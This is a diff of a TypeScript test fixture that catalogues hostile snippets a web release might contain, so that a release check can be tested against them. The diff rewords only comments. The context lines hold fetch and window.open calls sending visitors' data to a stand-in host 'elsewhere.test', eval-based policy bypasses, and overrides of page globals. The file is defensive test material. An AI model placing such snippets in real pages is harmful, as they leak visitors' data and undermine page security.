@@ -1,15 +1,15 @@
 /*
- * Attacks by the web half of a release. The release check refuses each (server/test/hostile), and a composed page contains
- * them where one runs past the check (e2e/tests/hostile-releases.spec.ts).
+ * Attacks by the web half of a release. The release check refuses each (server/test/hostile). A
+ * composed page contains those that bypass the check (e2e/tests/hostile-releases.spec.ts).
  */
 
-/** Code by what a release does with it: `a release that …`. */
+/** Code by a description that completes "a release that …". */
 export type Attacks = Readonly<Record<string, string>>;
 export const HOST = 'elsewhere.test';
-/** An element of the document, whatever the release does to it. */
+/** Adds an element to the document, with changed properties. */
 export const add = (element: string, changes: string) =>
   `(() => { const it = Object.assign(document.createElement('${element}'), ${changes}); document.documentElement.append(it); return it; })()`;
-/** Send what visitors do to another host. */
+/** Send visitors' data to another host. */
 export const SENDS: Attacks = {
   'asks another host by fetch': `fetch('https://h1.${HOST}/').catch(() => {})`,
   'asks another host where no answer is read': `fetch('https://h2.${HOST}/', { mode: 'no-cors', keepalive: true }).catch(() => {})`,
@@ -48,7 +48,7 @@ export const SENDS: Attacks = {
   'opens a window of another host': `open('https://h25.${HOST}/')`,
 };
 
-/** Run texts as scripts, against the policy of the page. */
+/** Run strings as scripts, against the policy of the page. */
 export const TEXTS: Attacks = {
   'evaluates a text': `try { eval('ran = 1'); } catch {}`,
   'makes a function of a text': `try { new Function('ran = 1')(); } catch {}`,
@@ -63,7 +63,7 @@ export const TEXTS: Attacks = {
   'takes the head away and evaluates a text': `try { document.head.querySelectorAll('meta').forEach((own) => own.remove()); eval('ran = 1'); } catch {}`,
 };
 
-/** Change what all parts of the page use. */
+/** Change globals that all parts of the page use. */
 export const CHANGES: Attacks = {
   'takes the way to the server in the browser': `fetch = () => new Promise(() => {})`,
   'hides a built-in function of the window': `addEventListener = () => {}`,
